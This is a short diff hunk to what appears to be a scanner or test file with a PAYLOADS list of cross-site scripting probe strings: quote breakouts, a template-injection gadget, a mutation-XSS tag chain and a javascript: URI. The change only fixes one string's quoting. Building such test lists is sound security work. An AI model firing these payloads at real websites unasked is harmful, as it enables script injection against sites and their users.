@@ -66,7 +66,7 @@ PAYLOADS = [
     "`-alert(16)-`",
     "'-alert(17)-'",
     '";alert(18);//',
-    "\\\";alert(19);//",
+    '\\";alert(19);//',
     "{{constructor.constructor('alert(20)')()}}",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(21)>",
     '<object data="javascript:alert(22)">',
